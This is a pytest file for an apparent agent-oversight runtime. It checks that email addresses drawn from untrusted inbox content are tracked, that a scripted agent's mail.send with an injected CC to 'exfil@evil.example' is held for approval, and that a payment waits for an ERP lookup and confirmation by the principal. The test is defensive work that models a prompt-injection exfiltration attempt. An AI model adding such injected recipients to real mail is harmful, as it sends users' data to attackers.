"""Provenance through the durable runtime: the task vouches, untrusted fields mark what
they name, vouched work flows after untrusted content while an injected recipient waits
for a person; sequence conditions read what the run did; the principal confirms."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tether.agents import Agent
from tether.approvals import NotAnApprover
from tether.errors import ConfigurationError
from tether.policy import load_policy
from tether.runtime import Runtime

POLICY = """
version: 1
toolsets: [tests.gate.test_provenance:TOOLS]
roles:
  staff: {may: ["*"]}
  approvers: {may: ["*"]}
users:
  alice: {roles: [staff]}
  fiona: {roles: [approvers]}
defaults:
  approval: {approvers: [role:approvers]}
  untrusted: {unless_vouched: true}
agents:
  assistant:
    may_act_for: [role:staff]
    vouch: {task: true}
    tools:
      - tool: mail.read
      - tool: erp.party
      - tool: mail.send
        approval: never
      - tool: bank.pay
        when: 'run.calls.exists(c, c.tool == "erp.party" && c.status == "done")'
        approval: {approvers: [principal]}
"""


@pytest.fixture
def runtime(tmp_path: Path) -> Iterator[Runtime]:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY)
    policy = load_policy(path)
    rt = Runtime(
        policy=policy,
        agents=[Agent(name="assistant", policy=policy)],
        database=f"sqlite:///{tmp_path / 'tether.db'}",
        keys=str(tmp_path / "keys"),
    )
    rt.launch()
    yield rt
    rt.close()


def script(tmp_path: Path, turns: list[dict[str, Any]]) -> str:
    path = tmp_path / f"script-{len(list(tmp_path.glob('script-*')))}.yaml"
    path.write_text(yaml.safe_dump({"turns": turns}))
    return f"scripted:{path}"


def send(to: list[str], **more: Any) -> dict[str, Any]:
    args = {"to": to, "subject": "Your invoice", "body": "Here it is.", **more}
    return {"text": "Replying.", "calls": [{"tool": "mail.send", "args": args}]}


READ = {"text": "Reading the inbox.", "calls": [{"tool": "mail.read", "args": {}}]}


def test_vouched_work_flows_after_untrusted_content_and_an_injected_cc_waits(
    runtime: Runtime, tmp_path: Path
) -> None:
    turns = [
        READ,
        send(["bob@partner.example"]),
        send(["bob@partner.example"], cc=["exfil@evil.example"]),
    ]
    run = runtime.start(
        "assistant",
        "Answer Bob (bob@partner.example) about his invoice.",
        principal="alice",
        model=script(tmp_path, [*turns, {"text": "Done."}]),
    )
    record = runtime.wait(run.id, timeout_seconds=60)
    assert record.status == "waiting_approval", record.error
    assert record.untrusted
    assert record.provenance["email:bob@partner.example"] == ["task"]
    assert "untrusted:mail.read" in record.provenance["email:exfil@evil.example"]
    executed = [e for e in runtime.store.effects(run.id) if e.tool == "mail.send"]
    assert [e.status for e in executed] == ["done", "held"]
    (request,) = runtime.approvals.find(run_id=run.id)
    assert request.rule == "defaults.untrusted"
    assert "exfil@evil.example" in request.reason
    assert "seen in untrusted output of mail.read" in request.reason


def test_explicitly_vouched_values_and_bad_ones(runtime: Runtime, tmp_path: Path) -> None:
    run = runtime.start(
        "assistant",
        "Answer the mail.",
        principal="alice",
        model=script(tmp_path, [READ, send(["carol@partner.example"]), {"text": "Done."}]),
        vouched=["Carol@Partner.example"],
    )
    record = runtime.wait(run.id, timeout_seconds=60)
    assert record.status == "completed", record.error
    assert record.provenance["email:carol@partner.example"] == ["start"]
    with pytest.raises(ConfigurationError, match="cannot vouch for"):
        runtime.start("assistant", "x", principal="alice", vouched=["  "])


def test_a_sequence_condition_and_a_confirmation_by_the_principal(
    runtime: Runtime, tmp_path: Path
) -> None:
    pay = {
        "text": "Paying.",
        "calls": [{"tool": "bank.pay", "args": {"iban": "DE89370400440532013000", "amount": 5.0}}],
    }
    party = {"text": "Looking it up.", "calls": [{"tool": "erp.party", "args": {"party_id": 3}}]}
    run = runtime.start(
        "assistant",
        "Pay the supplier.",
        principal="alice",
        model=script(tmp_path, [pay, party, pay, {"text": "Paid."}]),
    )
    record = runtime.wait(run.id, timeout_seconds=60)
    assert record.status == "waiting_approval", record.error
    refused, read, held = runtime.store.effects(run.id)
    assert (refused.tool, refused.status) == ("bank.pay", "refused")  # before the lookup
    assert (read.tool, held.status) == ("erp.party", "held")
    (request,) = runtime.approvals.find(run_id=run.id)
    assert request.approvers == ("principal",)
    with pytest.raises(NotAnApprover):
        runtime.approve(request.id, by="fiona")
    runtime.approve(request.id, by="alice")  # the person the agent acts for confirms
    record = runtime.wait(run.id, timeout_seconds=60)
    assert record.status == "completed", record.error
    (decided,) = [
        stored.event for stored in runtime.audit.events(run=run.id, type="approval.decided")
    ]
    assert decided.approval is not None
    assert decided.approval["by"] == "alice"
    assert decided.approval["confirmation"] is True  # her own call: not independent oversight
    assert record.provenance["iban:DE89370400440532013000"] == ["tool:erp.party", "approval"]
